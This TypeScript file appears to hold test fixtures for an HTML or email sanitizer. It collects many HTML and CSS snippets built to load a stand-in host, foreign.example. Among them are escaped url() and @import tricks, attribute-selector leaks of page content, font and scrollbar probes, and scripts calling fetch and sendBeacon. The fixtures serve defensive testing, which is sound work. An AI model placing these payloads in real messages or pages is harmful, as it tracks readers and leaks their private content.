const at = (name: string): string => `http://${name}.foreign.example/`
const onParagraphs = (declarations: string): string => `<style>p{${declarations}}</style><p>x</p>`
/** Where a style is asked to load something: from the sheet, and from the element. */
const both = (name: string, declarations: (address: string) => string): string =>
  `<style>p{${declarations(at(`sheet-${name}`))}}</style><p>x</p><div style='${declarations(at(`element-${name}`))}'>x</div>`

/** Styles that would tell that a message was read, or what is in it. */
export const styles: Readonly<Record<string, string>> = {
  'a ground': both('ground', (url) => `background:url(${url})`),
  'a ground over TLS': onParagraphs('background:url(https://tls.foreign.example/)'),
  'a ground without a scheme': onParagraphs('background:url(//scheme.foreign.example/)'),
  'an escaped url': both('escaped', (url) => `background:u\\72l("${url}")`),
  'an escaped address': onParagraphs('background:url(\\68 ttp\\3a//letters.foreign.example/)'),
  'a set of images': both('set', (url) => `background:image-set("${url}" 1x)`),
  'an older set of images': both('older-set', (url) => `background:-webkit-image-set(url("${url}") 1x)`),
  'a cross-fade': both('fade', (url) => `background:-webkit-cross-fade(url("${url}"),url("${url}b"),50%)`),
  'a src()': both('src', (url) => `background:src("${url}")`),
  'a variable': both('variable', (url) => `--a:url("${url}");background:var(--a)`),
  'a registered variable': `<style>@property --b{syntax:"<image>";inherits:true;initial-value:url(${at('property')})}p{background:var(--b)}</style><p>x</p>`,
  'a cursor': both('cursor', (url) => `cursor:url("${url}"),auto`),
  'a list': `<ul><li style="list-style:url(${at('list')})">x</li></ul>`,
  content: `<style>p::before{content:url(${at('before')})}p::after{content:"a" / url(${at('alt')})}</style><p>x</p><img alt="" style="content:url(${at('content')})">`,
  'a marker': `<style>li::marker{content:url(${at('marker')})}p::first-line{background:url(${at('line')})}p::first-letter{background:url(${at('letter')})}</style><ul><li>x</li></ul><p>x</p>`,
  'a border': both('border', (url) => `border:9px solid;border-image:url("${url}") 1`),
  'a mask': both('mask', (url) => `mask:url("${url}");-webkit-mask-box-image:url("${url}b")`),
  'a filter': both('filter', (url) => `filter:url("${url}#a");backdrop-filter:url("${url}#a")`),
  'a shape': both('shape', (url) => `float:left;shape-outside:url("${url}");clip-path:url("${url}#a")`),
  'a path': both('path', (url) => `offset-path:url("${url}#a");-webkit-box-reflect:below 0 url("${url}")`),
  'a font': `<style>@font-face{font-family:a;src:url(${at('font')})}@font-face{font-family:b;src:local("a"),url(${at('range')});unicode-range:U+78}p{font-family:a,b}</style><p>x</p>`,
  'counter signs': `<style>@counter-style a{system:cyclic;symbols:url(${at('symbols')})}ol{list-style:a}</style><ol><li>x</li></ol>`,
  'an import': `<style>@import url(${at('import')});</style><style>@import "${at('import-string')}";</style><style>@import url(${at('layer')}) layer(a) supports(display:grid) screen;</style>x`,
  'an escaped import': `<style>@im\\port "${at('import-escaped')}";</style><style>@\\69mport'${at('import-letters')}';</style>x`,
  'an import of data': `<style>@import url("data:text/css,@import%20url(${at('import-data')})%3Bp{background:url(${at('data-ground')})}");</style><p>x</p>`,
  'an import after a comment': `<style><!-- @import url(${at('import-comment')}); --></style><style>/**/@charset "utf-8";@namespace url(${at('namespace')});@import url(${at('import-late')});</style>x`,
  'a rule in rules': `<style>@media all{@supports (display:grid){@layer a{@scope (body){@container (width > 1px){p{background:url(${at('at-rules')})}}p{&{background:url(${at('nested')})}}}}}}body{container-type:inline-size}</style><p>x</p>`,
  'key frames': `<style>@keyframes a{from{background:url(${at('frames-from')})}to{background:url(${at('frames-to')})}}p{animation:a 1s infinite}</style><p>x</p>`,
  'what a link leads to': `<style>a[href*="secret"]{background:url(${at('link')})}a:visited{background:url(${at('visited')})}body:has(a[href^="https://a"]){background:url(${at('has')})}</style><a href="https://a.example/secret">x</a>`,
  'what an attribute holds': `<style>[title^="s"]{background:url(${at('attribute-s')})}[title^="t"]{background:url(${at('attribute-t')})}</style><p title="secret">x</p>`,
  'how wide a text is': `<style>div{width:9px;overflow:auto;white-space:nowrap}div::-webkit-scrollbar{background:url(${at('bar')})}div::-webkit-scrollbar-thumb{background:url(${at('thumb')})}</style><div>a long secret text</div>`,
  'the screen': `<style>@media (min-width:1px){body{background:url(${at('width')})}}@media (prefers-color-scheme:light){p{background:url(${at('light')})}}@media print{p{background:url(${at('print')})}}</style><p>x</p>`,
  'a hover': `<style>html:hover{background:url(${at('hover')})}p:active{background:url(${at('active')})}</style><p>x</p>`,
  'a picture in a picture': `<p style='background:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 width=%229%22 height=%229%22><image href=%22${at('inner')}%22 width=%229%22 height=%229%22/><style>@import url(${at('inner-import')})</style></svg>")'>x</p>`,
  'old bindings': `<p style="behavior:url(${at('behavior')});-moz-binding:url(${at('binding')}#a)">x</p>`,
  'a namespace of styles': `<style>@namespace a url(${at('prefix')});@document url(${at('document')}){p{color:red}}@page{background:url(${at('page')})}</style><p>x</p>`,
}

/** Elements that would load something. */
export const loaders: Readonly<Record<string, string>> = {
  'links of the head': [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
    'prerender',
  ]
    .map((kind) => `x<link rel="${kind}" as="image" href="${at(`rel-${kind}`)}">`)
    .join(''),
  'a link in svg': `<svg><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${at('svg-link')}"></link></svg>`,
  pictures: `<img src="${at('img')}" srcset="${at('srcset')} 1x" lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}"><picture><source srcset="${at('source')}"><img alt=a></picture><input type=image src="${at('input')}">`,
  'pictures with odd addresses': `<img src="\thttp://tab.foreign.example/"><img src="/\\slash.foreign.example/"><img src="http:/\\one.foreign.example/"><img src="&#x2f;&#x2f;entity.foreign.example/"><img src="ht&Tab;tp://inner.foreign.example/"><img src="\u3000http://space.foreign.example/">`,
  'lazy pictures': `<img loading=lazy src="${at('lazy')}"><img loading=lazy fetchpriority=high srcset="data:,a 1x, ${at('second')} 2x, ${at('third')} 1w">`,
  'pictures of this place':
    '<img src="index.html"><img src="./favicon.svg?a"><img src="/some/path/hostile.gif"><img src="?b">',
  grounds: `<body background="${at('body')}"><table background="${at('table')}"><tr background="${at('row')}"><td background="${at('cell')}">x`,
  'moving pictures': `<video src="${at('video')}" poster="${at('poster')}" autoplay><source src="${at('video-source')}"><track default src="${at('track')}"></video><audio autoplay src="${at('audio')}"></audio><bgsound src="${at('bgsound')}">x`,
  'things inside': `<iframe src="${at('iframe')}"></iframe><iframe srcdoc="&lt;img src=${at('srcdoc')}&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><object data="${at('object')}"><embed src="${at('embed')}"></object><applet code="${at('applet')}"></applet><portal src="${at('portal')}"></portal><fencedframe></fencedframe>x`,
  frames: `<frameset><frame src="${at('frame')}"></frameset>`,
  'another base': `<base href="${at('base')}" target="_top"><img src="a.gif"><a href="b.html">x</a>`,
  svg: `<svg><image href="${at('svg-image')}" xlink:href="${at('svg-xlink')}" width="9" height="9"/><use href="${at('use')}#a"/><feImage href="${at('fe')}"/><filter id=f><feImage xlink:href="${at('fe-in')}"/></filter><style>@import url(${at('svg-style')});</style><script href="${at('svg-script')}"></script></svg>x`,
  math: `<math href="${at('math')}"><mtext><img src="${at('mtext')}"></mtext></math>x`,
  scripts: `x<script src="${at('script')}"></script><script type=module>import "${at('module')}"</script><script type=importmap>{"imports":{"a":"${at('map')}"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at('speculation')}"]}]}</script><script>fetch("${at('fetch')}",{mode:"no-cors"});new Image().src="${at('image')}";navigator.sendBeacon("${at('beacon')}")</script>`,
  'policies that report': `x<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${at('report')}"><meta http-equiv="Report-To" content='{"endpoints":[{"url":"${at('report-to')}"}]}'><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="origin-trial" content="a"><meta http-equiv="Link" content="<${at('link-header')}>; rel=preconnect"><img src="${at('reported')}">`,
  'a manifest': `<html manifest="${at('appcache')}" profile="${at('profile')}"><body>x`,
  'names that load nothing any more': `<img longdesc="${at('longdesc')}" usemap="${at('usemap')}"><blockquote cite="${at('cite')}">x</blockquote><del cite="${at('del')}">x</del><table><td itemid="${at('item')}">x</table>`,
}
